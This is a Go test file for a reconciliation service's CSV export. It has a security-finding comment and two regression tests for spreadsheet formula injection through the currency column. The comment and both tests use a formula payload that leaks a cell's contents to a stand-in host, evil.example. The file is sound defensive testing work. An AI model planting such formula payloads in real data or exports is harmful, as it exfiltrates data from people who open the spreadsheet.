package api_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/saldo/saldo/providers"
	"github.com/saldo/saldo/providers/sim"
	"github.com/saldo/saldo/reconcile"
)

// FINDING (high, R19 CSV export / security): the divergences CSV leaves the
// currency column raw, and the currency is the provider statement's text.
//
// exportDivergencesCSV passes reference, provider_id, detail, both sides
// and the reason through csvText, but writes j.Currency as it is. For an
// unknown_to_us or a double_payment the currency is the statement line's
// (finding.currency = m.Currency / x.Currency), for ledger_totals its
// upper-case (strings.ToUpper(l.Currency)); nothing in reconcile or the
// sim/Stripe adapters checks that it is an ISO code. A statement line with
// the currency =HYPERLINK("http://evil.example/?x="&A1,"open") reaches an
// auditor's spreadsheet as a live formula (two rows here), the attack
// TestDivergencesCSVNeutralisesFormulas guards for the other columns.
//
// Fix: csvText(j.Currency) in the export (every column that can hold
// text), and in reconcile validate a statement line's currency
// (money.ParseCurrency or ^[A-Za-z]{3}$): one that is not a currency is
// an amount_mismatch / refused line, never stored as a currency.
func TestDivergencesCSVNeutralisesTheStatementsCurrency_R19(t *testing.T) {
	t.Parallel()
	e := reconcileEnv(t)
	rec, err := reconcile.New(reconcile.Config{Pool: e.pool, Attempts: e.att,
		Providers: map[string]providers.Provider{"sim": e.prov}, Clock: e.clock})
	require.NoError(t, err)
	day := reconcile.Day(e.clock.Now())
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"open")`
	require.NoError(t, e.srv.AddStatementLie(sim.StatementLie{Kind: sim.LieAdd, Reference: strings.Repeat("cd", 16),
		Operation: providers.OpPixTransfer, Amount: "5.00", Currency: evil, At: e.clock.Now()}))
	e.clock.Set(day.Add(51 * time.Hour))
	_, err = rec.Run(e.ctx, "sim", day, reconcile.RunOptions{TriggeredBy: "test"})
	require.NoError(t, err)

	r := e.get("/v1/reconcile/divergences.csv", e.auditor)
	require.Equal(t, http.StatusOK, r.Status)
	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
	require.NoError(t, err)
	require.Greater(t, len(rows), 1)
	var bad []string
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				bad = append(bad, rows[0][i]+" ("+row[3]+"): "+cell)
			}
		}
	}
	require.Empty(t, bad, "the statement's currency reaches the auditor's export as a formula")
}

// The export neutralises the currency column itself: rows stored before
// reconciliation refused a statement line whose currency is not one saldo
// knows (unreadable_line, R19) may hold one (as this row's does).
func TestDivergencesCSVNeutralisesAStoredCurrency_R19(t *testing.T) {
	t.Parallel()
	e := reconcileEnv(t)
	id, _ := plantUnknownToUs(t, e, strings.Repeat("ef", 16))
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"open")`
	_, err := e.pool.Exec(e.ctx, `UPDATE reconcile_divergences SET currency = $2 WHERE id = $1`, id, evil)
	require.NoError(t, err)

	r := e.get("/v1/reconcile/divergences.csv", e.auditor)
	require.Equal(t, http.StatusOK, r.Status)
	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
	require.NoError(t, err)
	col := -1
	for i, h := range rows[0] {
		if h == "currency" {
			col = i
		}
	}
	require.GreaterOrEqual(t, col, 0)
	var cells []string
	for _, row := range rows[1:] {
		cells = append(cells, row[col])
	}
	require.Contains(t, cells, "'"+evil)
}
